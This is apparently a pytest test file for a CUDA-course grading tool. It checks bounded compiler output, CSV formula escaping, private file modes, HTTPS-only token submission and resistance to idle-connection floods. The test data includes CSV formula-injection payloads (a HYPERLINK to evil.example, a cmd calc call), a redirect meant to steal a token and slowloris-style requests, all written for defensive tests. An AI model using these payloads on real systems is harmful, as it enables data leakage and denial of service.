"""What a student can make large is bounded where it is read, and what the grader keeps is its
own (issue 70): a compiler's flood, the stored result and a status request; the course store's and
the cache's modes whatever the umask; CSV cells that would start a formula; a server URL without a
scheme; a server that 2,000 idle connections do not lock out."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from grader.cli import cli
from conftest import ROOT

KERNEL = "__global__ void biasGeluFused(const float* x, const float* b, float* y, size_t cols) {}\n"


def flood_source(width: int = 20000) -> str:
    """A file that includes itself under #error with a long line: each inclusion repeats the line in
    an error, as deep as the preprocessor nests (200 deep in g++), each under its include chain. The
    include sits under a condition the file does not settle, so the scan leaves it to the compiler."""
    return f"#error {'A' * width}\n#ifdef __cplusplus\n#include \"submission.cu\"\n#endif\n{KERNEL}"


# --- a compiler's flood --------------------------------------------------------------------------------

def test_a_compiler_flood_is_a_bounded_compile_error(tmp_path):
    """A 20 KB file that made 4.6 MB each of result.json, report.md and report.html on the emulator
    (165-494 MB through nvcc): its result within 256 KiB, its reports within 1 MB together, the
    student's compile_error with the first messages and a line saying how much was cut."""
    src = tmp_path / "flood.cu"
    src.write_text(flood_source())
    out = tmp_path / "report"
    r = CliRunner().invoke(cli, ["submit", str(src), "--exercise", "bias_gelu_fused", "--backend", "emulator",
                                 "--report-dir", str(out)], catch_exceptions=False)
    assert r.exit_code == 3, r.output[-2000:]
    result = json.loads((out / "result.json").read_text())
    assert result["status"] == "compile_error"
    assert (out / "result.json").stat().st_size <= 256 * 1024
    assert (out / "report.md").stat().st_size + (out / "report.html").stat().st_size <= 1024 * 1024
    message = result["message"]
    assert "#error" in message.splitlines()[0] and "flood.cu:1" in message
    assert "more characters]" in message                        # the long line, cut where it is shown
    assert "more lines)" in message                             # the messages beyond the first, counted
    assert len(message) <= 16 * 1024
    assert all(len(m["text"]) <= 400 for m in result["build"]["messages"])


def test_a_build_s_output_is_read_with_a_cap():
    """A compiler that prints 40 MB: the grader holds its first OUTPUT_CAP_CHARS and says how much it
    cut (communicate() read it all: the grader reached 3.75 GB on a flood)."""
    from grader.toolchain.running import OUTPUT_CAP_CHARS, BoundedOutput

    proc = subprocess.Popen([sys.executable, "-c", "import sys\nfor _ in range(40): sys.stderr.write('E' * (1 << 20))\n"
                             "print('out')"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    out, err = BoundedOutput(proc).wait(timeout=120)
    assert out == "out\n" and proc.returncode == 0
    assert len(err) < OUTPUT_CAP_CHARS + 200
    assert err.startswith("E" * 1000) and f"printed {40 * (1 << 20) - OUTPUT_CAP_CHARS} more characters" in err


def compile_error_doc() -> dict:
    from grader.core.outcomes import Outcome
    from grader.core.results import Result

    return Result(exercise="bias_gelu_fused", submission={"path": "k.cu", "sha256": ""}, backend="emulator",
                  status=Outcome.COMPILE_ERROR, grader_version="0").to_json()


def test_a_result_over_its_bound_keeps_its_schema_and_says_so():
    from grader.core.results import result_from_json
    from grader.report.files import RESULT_CHARS, bounded_result

    doc = compile_error_doc()
    doc["message"] = "error: " + "A" * 3_000_000
    doc["notes"] = [{"file": "k.cu", "line": i, "title": "compile error", "message": "B" * 20000} for i in range(300)]
    cut = bounded_result(doc)
    assert len(json.dumps(cut)) <= RESULT_CHARS
    assert cut["message"].startswith("error: AAAA") and "result.json was over 256 KiB" in cut["message"]
    result_from_json(cut)                                       # still a result a reader reads


def test_the_course_store_and_a_status_request_hold_a_bounded_result(tmp_path):
    """A grade whose message floods (a compiler's) is stored within 256 KiB, its reports within 1 MB
    (the documents the worker stores are report/files' own, bounded there); a row stored over the
    bound before results were bounded is returned by a status request within it."""
    from grader.core.outcomes import Outcome
    from grader.core.results import Result
    from grader.exercises import load_exercise
    from grader.report.files import RESULT_CHARS, Rendered
    from grader.serve.course import Course, Settings
    from grader.serve.store import StoredGrade

    flood = Result(exercise="bias_gelu_fused", submission={"path": "flood.cu", "sha256": ""}, backend="emulator",
                   status=Outcome.COMPILE_ERROR, grader_version="0",
                   message="flood.cu:1: error: #error " + "A" * 5_000_000)
    course = Course(Settings(tmp_path, "bias_gelu_fused", worker=False))
    store = course.store
    db = store._db
    for upload in ("u1", "u2"):
        db.execute("INSERT INTO uploads (id, student, name, data, sha256, received, state) VALUES "
                   f"('{upload}', 'ada', 'flood.cu', x'00', '', 0, 'grading')")
    assert store.finish("u1", StoredGrade.of(Rendered(flood, load_exercise("bias_gelu_fused"))))
    row = db.execute("SELECT result, report_md, report_html FROM uploads WHERE id = 'u1'").fetchone()
    assert len(row["result"]) <= 256 * 1024
    assert len(row["report_md"]) + len(row["report_html"]) <= 1024 * 1024
    assert json.loads(row["result"])["status"] == "compile_error"
    old = json.dumps(flood.to_json())                              # a row of a grader before the bound
    assert len(old) > RESULT_CHARS
    assert store.finish("u2", StoredGrade(old, "", "", "compile_error", None, None, None))
    status = course.status_json(store.upload("u2"))
    assert len(status) <= RESULT_CHARS + 1024 and json.loads(status)["result"]["status"] == "compile_error"


def test_a_compile_error_quotes_the_students_own_line_in_a_narrow_window(tmp_path):
    """nvcc quotes a line with its macros expanded (the student's __global__ as
    __attribute__((global))): the compile error quotes the line as the student wrote it, its caret
    still under the brace, through a window around the caret, never 100+ columns (issue 73)."""
    from grader.core.source import read_submission
    from grader.toolchain.outcome import BuildResult, compile_message

    line = ("__global__ void biasGeluFused(const float* __restrict__ x, const float* __restrict__ bias, "
            "float* __restrict__ out, size_t cols) {")
    path = tmp_path / "brace.cu"
    path.write_text(f"{line}\n    out[0] = x[0] + bias[0];\n")
    sub = read_submission(path, "launchBiasGeluFused")
    ran = subprocess.run(["nvcc", "-c", path.name, "-o", "/dev/null"], cwd=tmp_path, capture_output=True, text=True)
    assert "__attribute__((global))" in ran.stderr                   # what the compiler quoted
    build = BuildResult(ok=False, library=None, object=None, cached=False, seconds=0.0, command="",
                        log=ran.stderr, alone_log=ran.stderr)
    message = compile_message(build, sub).splitlines()
    assert not any("__attribute__" in ln for ln in message), message
    at = next(i for i, ln in enumerate(message) if "to match this" in ln) + 1      # nvcc's note, then the line
    quoted, caret = message[at], message[at + 1]
    assert quoted.endswith("size_t cols) {") and quoted.startswith("  ...")     # nvcc's indent, the window's start
    assert caret.rstrip().endswith("^") and caret.index("^") == quoted.rindex("{")
    assert len(quoted) <= 90 and len(caret) <= 90


# --- CSV cells ----------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"ok").cu', "+cmd|' /C calc'!A0.cu", "-2+3+cmd.cu",
            "@SUM(A1:A9).cu", "\t=1+1.cu", "\r=1+1.cu"]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_file_named_as_a_formula_is_text_in_every_csv(tmp_path, name):
    """summary.csv and gradebook.csv (batch, merge and the server's export write through them): a cell
    a spreadsheet would run as a formula starts with ' and reads back as written (merge); a number
    such as -0.5 is left a number."""
    import csv

    from grader.batch.grading import Graded
    from grader.batch.inputs import Entry
    from grader.batch.outputs import read_cell, write_gradebook, write_summary
    from grader.core.results import result_from_json
    from grader.exercises import load_exercise

    doc = compile_error_doc()
    doc["message"] = f"{name}: error: expected a '}}'"
    graded = [Graded(Entry(name.removesuffix(".cu"), Path(name)), result_from_json(doc)),
              Graded(Entry("=ada", None, "missing", "-no file"), None)]
    write_summary(graded, tmp_path / "summary.csv")
    write_gradebook(graded, load_exercise("bias_gelu_fused"), tmp_path / "gradebook.csv")
    for table in ("summary.csv", "gradebook.csv"):
        rows = list(csv.reader((tmp_path / table).open(newline="", encoding="utf-8")))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not c.lstrip("+-").replace(".", "").isdigit()], table
        written = {name, name.removesuffix(".cu")}
        assert any(read_cell(c) in written | {w.strip() for w in written} for c in cells)   # \r: one line
    from grader.batch.outputs import inert
    assert inert("-0.5") == "-0.5" and inert("ok.cu") == "ok.cu"


# --- files private to the grader's user ------------------------------------------------------------

@pytest.fixture(params=[0o000, 0o077], ids=["umask-000", "umask-077"])
def umask(request):
    old = os.umask(request.param)
    yield request.param
    os.umask(old)


def private(path: Path) -> bool:
    """No account but the grader's user reads, writes or enters path: where the grader is root, whose
    children run as nobody, nobody's group may read and enter (never write), and no one else."""
    from grader.core.folders import NOBODY

    st = os.stat(path)
    if st.st_mode & 0o007:
        return False
    if os.geteuid() == 0 and st.st_gid == NOBODY:
        return not st.st_mode & 0o020
    return not st.st_mode & 0o070


def test_the_course_store_and_its_journals_are_0600_whatever_the_umask(tmp_path, umask):
    from grader.serve.store import Store

    store = Store(tmp_path)
    store.issue("ada")                                  # a write: the -wal and -shm exist now
    files = [tmp_path / name for name in ("grader.sqlite", "grader.sqlite-wal", "grader.sqlite-shm")]
    assert all(f.exists() for f in files)
    assert [stat.S_IMODE(f.stat().st_mode) for f in files] == [0o600] * 3
    store.close()


def test_a_store_made_readable_before_is_made_private_when_opened(tmp_path):
    from grader.serve.store import Store

    Store(tmp_path).close()
    for f in tmp_path.glob("grader.sqlite*"):
        os.chmod(f, 0o644)
    Store(tmp_path).close()
    assert all(stat.S_IMODE(f.stat().st_mode) == 0o600 for f in tmp_path.glob("grader.sqlite*"))


def test_the_cache_and_its_builds_are_private_whatever_the_umask(tmp_path, umask, monkeypatch):
    from grader.core.locations import cache_root
    from grader.toolchain.cache import keep, keep_record, keep_text

    monkeypatch.setenv("GRADER_CACHE_DIR", str(tmp_path / "fresh" / "cache"))
    root = cache_root()
    assert root.is_dir() and private(root)
    entry = root / "sub-0123"
    entry.mkdir()
    made = tmp_path / "lib.so"
    made.write_bytes(b"\x7fELF")
    keep(made, entry / "lib.so")
    keep_record(entry / "build.json", log="k.cu(1): error", resources=[], compiler="g++", confined=True, wall="")
    keep_text(entry / "submission.cu", b"__global__ void k() {}\n")
    assert private(entry / "lib.so")
    assert [stat.S_IMODE((entry / n).stat().st_mode) for n in ("build.json", "submission.cu")] == [0o600, 0o600]


def test_a_cache_made_readable_before_is_closed_when_named(tmp_path, monkeypatch):
    from grader.core.locations import cache_root

    folder = tmp_path / "old-cache"
    folder.mkdir(mode=0o755)
    os.chmod(folder, 0o755)
    monkeypatch.setenv("GRADER_CACHE_DIR", str(folder))
    cache_root()
    assert private(folder)


def test_serve_tokens_out_writes_a_0600_file_whatever_the_umask(tmp_path, umask):
    roster = tmp_path / "roster.csv"
    roster.write_text("identifier\nada\nbob\n")
    out = tmp_path / "tokens.csv"
    r = CliRunner().invoke(cli, ["serve", "tokens", str(roster), "--folder", str(tmp_path), "--out", str(out)],
                           catch_exceptions=False)
    assert r.exit_code == 0, r.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    lines = out.read_text().splitlines()
    assert lines[0] == "identifier,token" and lines[1].startswith("ada,") and len(lines) == 4
    assert lines[2].startswith("bob,") and lines[3].startswith("@instructor,")
    assert not any(len(part) > 20 and part in r.output for line in lines[1:] for part in line.split(","))


# --- grader submit --server -------------------------------------------------------------------------

CHEAP = ROOT / "submissions" / "bias_gelu_fused" / "missing_bias.cu"


@pytest.mark.parametrize("server", ["127.0.0.1:{port}", "localhost:{port}", "course.example.edu:8443",
                                    "//127.0.0.1:{port}", "ftp://127.0.0.1:{port}"])
def test_a_server_without_a_scheme_is_refused_before_the_token_goes_anywhere(server):
    import socket

    from grader.core.errors import UsageError
    from grader.serve.client import submit_remote

    with socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        listening.listen(8)
        listening.setblocking(False)
        url = server.format(port=listening.getsockname()[1])
        with pytest.raises(UsageError, match=r"https://"):
            submit_remote(CHEAP, server=url, token="secret-token", exercise=None, progress=None)
        with pytest.raises(BlockingIOError):
            listening.accept()                              # no connection was made


@pytest.mark.parametrize("server", ["http://course.example.edu", "http://10.0.0.5:8000", "http://[2001:db8::1]:80/"])
def test_plain_http_beyond_this_machine_is_refused(server):
    from grader.core.errors import UsageError
    from grader.serve.client import submit_remote

    with pytest.raises(UsageError, match="unencrypted"):
        submit_remote(CHEAP, server=server, token="secret-token", exercise=None, progress=None)


@pytest.mark.parametrize("server", ["http://127.0.0.1:{port}", "http://localhost:{port}/", "http://[::1]:{port}"])
def test_plain_http_to_this_machine_is_tried_and_a_redirect_is_not_followed(server):
    """A loopback server over http is used (a refusal comes from the server, here a redirect to
    plain http elsewhere, which would carry the token on: not followed)."""
    import http.server
    import threading

    from grader.serve.client import ServerRefused, submit_remote

    seen = []

    class Redirect(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            seen.append(self.headers.get("Authorization"))
            self.send_response(307)
            self.send_header("Location", "http://evil.example/steal")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args):
            pass

    family = 10 if "::1" in server else 2
    http.server.HTTPServer.address_family = family
    httpd = http.server.HTTPServer(("::1" if family == 10 else "127.0.0.1", 0), Redirect)
    http.server.HTTPServer.address_family = 2
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        with pytest.raises(ServerRefused, match="redirected to http://evil.example/steal"):
            submit_remote(CHEAP, server=server.format(port=httpd.server_address[1]), token="secret-token",
                          exercise=None, progress=None)
    finally:
        httpd.shutdown()
    assert seen == ["Bearer secret-token"]


# --- the server's connections ---------------------------------------------------------------------

class InProcess:
    """uvicorn with the server's protocol (protocol: a GuardedH11, stricter for a test) and a
    trivial app, in a thread of this process on 127.0.0.1; stopped at the end of the block."""

    def __init__(self, protocol):
        import threading

        import uvicorn

        async def app(scope, receive, send):
            if scope["type"] != "http":
                return
            await send({"type": "http.response.start", "status": 200, "headers": [(b"content-length", b"2")]})
            await send({"type": "http.response.body", "body": b"ok"})

        with socket_bound() as (port, _s):
            self.port = port
        self.server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=self.port, http=protocol,
                                                    log_level="warning", lifespan="off"))
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    def __enter__(self):
        import socket
        import time

        self.thread.start()
        for _ in range(200):
            if self.server.started:
                return self
            time.sleep(0.05)
        raise AssertionError("the test server did not start")

    def __exit__(self, *exc):
        self.server.should_exit = True
        self.thread.join(timeout=10)

    def connect(self):
        import socket

        return socket.create_connection(("127.0.0.1", self.port), timeout=10)


def socket_bound():
    import contextlib
    import socket

    @contextlib.contextmanager
    def bound():
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            yield s.getsockname()[1], s
    return bound()


def closed_by_server(sock) -> bool:
    """The server closed this connection (its read ends), within the socket's 10 s timeout."""
    try:
        return sock.recv(4096) == b""
    except ConnectionResetError:
        return True


def answered(sock, request: bytes = b"GET / HTTP/1.1\r\nHost: t\r\n\r\n") -> bool:
    """One request on sock answered 200 (read to the end of its body, b"ok")."""
    sock.sendall(request)
    got = b""
    try:
        while not got.endswith(b"\r\n\r\nok"):
            chunk = sock.recv(4096)
            if not chunk:
                break
            got += chunk
    except (ConnectionResetError, TimeoutError):
        return False
    return got.startswith(b"HTTP/1.1 200")


def test_a_request_s_headers_have_a_time_limit():
    """A connection that sends nothing, or its headers a few bytes and then nothing, is closed by the
    server (uvicorn kept both open for ever); one that asks is answered, and its next request's
    headers have the same limit; a body the answer never read, dripping on, is closed too."""
    import time

    from grader.serve.connections import GuardedH11

    class Quick(GuardedH11):
        headers_s = 0.5

    with InProcess(Quick) as server:
        silent, dripping, honest = server.connect(), server.connect(), server.connect()
        dripping.sendall(b"GET / HTTP/1.1\r\nHost: t\r\nX-Slow: ")
        assert answered(honest)
        assert closed_by_server(silent) and closed_by_server(dripping)
        honest.sendall(b"GET / HTTP/1.1\r\nHo")                  # the next request's headers, never finished
        assert closed_by_server(honest)
        unread = server.connect()                                # a body the answer never read, still dripping
        assert answered(unread, b"GET / HTTP/1.1\r\nHost: t\r\nContent-Length: 100000\r\n\r\nx")
        for _ in range(20):
            try:
                unread.sendall(b"x")
            except (BrokenPipeError, ConnectionResetError):
                break
            time.sleep(0.1)
        assert closed_by_server(unread)
        for s in (silent, dripping, honest, unread):
            s.close()


def test_one_address_holds_a_bounded_number_of_connections():
    from grader.serve.connections import GuardedH11

    class Strict(GuardedH11):
        per_address = 4
        loopback_exempt = False          # the test's clients are on loopback, which the proxy's cap covers

    with InProcess(Strict) as server:
        held = [server.connect() for _ in range(10)]
        assert [answered(s) for s in held[:4]] == [True] * 4
        assert all(closed_by_server(s) for s in held[4:])
        held[0].close()
        held[1].close()
        later = server.connect()
        assert answered(later)                                   # a slot freed is a slot again
        for s in [*held, later]:
            s.close()


def test_2100_idle_connections_do_not_lock_the_class_out(tmp_path):
    """2,100 idle TCP connections to `grader serve` on 127.0.0.1 (the proxy's address: its per-address
    cap is the proxy's) held open while a student uploads: the upload is accepted at once and graded
    on the emulator (every request answered 503 while they stayed open)."""
    import resource
    import socket

    from test_serve_http import CORRECT, Server, tokens, upload, wait_done

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    need = 2100 + 500
    if soft < need:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 2 * need) if hard != resource.RLIM_INFINITY else 2 * need,
                                                    hard))
    people = tokens(tmp_path, "ann")
    server = Server(tmp_path).start()
    held = []
    try:
        for _ in range(2100):
            held.append(socket.create_connection(("127.0.0.1", server.port), timeout=30))
        status, _h, doc = upload(server, people["ann"], CORRECT)   # answered within the request's timeout: not locked out
        assert status == 202, doc
        graded = wait_done(server, people["ann"], doc["id"])
        assert graded["result"]["status"] == "graded" and graded["result"]["correct"] is True
    finally:
        for s in held:
            s.close()
        server.stop()
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def test_a_status_request_returns_a_bounded_document(tmp_path):
    """A result stored over the bound (by a grader before it: the flood's 165 MB) comes back from
    GET /api/submissions/{id} within 256 KiB and still a result; its reports within 1 MB."""
    import sqlite3

    from test_serve_attacks import Attacked, api_upload, issue, req

    people = issue(tmp_path, "ada")
    server = Attacked(tmp_path)
    try:
        upload_id = api_upload(server, people["ada"]).json()["id"]
        doc = compile_error_doc()
        doc["message"] = "flood.cu:1: error: #error " + "A" * 3_000_000
        doc["notes"] = [{"file": "flood.cu", "line": 1, "title": "compile error", "message": "A" * 20000}] * 200
        with sqlite3.connect(tmp_path / "grader.sqlite") as db:        # as an older grader stored it
            db.execute("UPDATE uploads SET state = 'done', status = 'compile_error', result = ?, report_md = ?, "
                       "report_html = ? WHERE id = ?", (json.dumps(doc), "M" * 10, "<p>H</p>", upload_id))
        answer = req(server, "GET", f"/api/submissions/{upload_id}", token=people["ada"])
        assert answer.status == 200 and len(answer.body) <= 256 * 1024 + 4096
        result = answer.json()["result"]
        assert result["status"] == "compile_error" and result["message"].startswith("flood.cu:1: error: #error AAA")
    finally:
        server.stop()
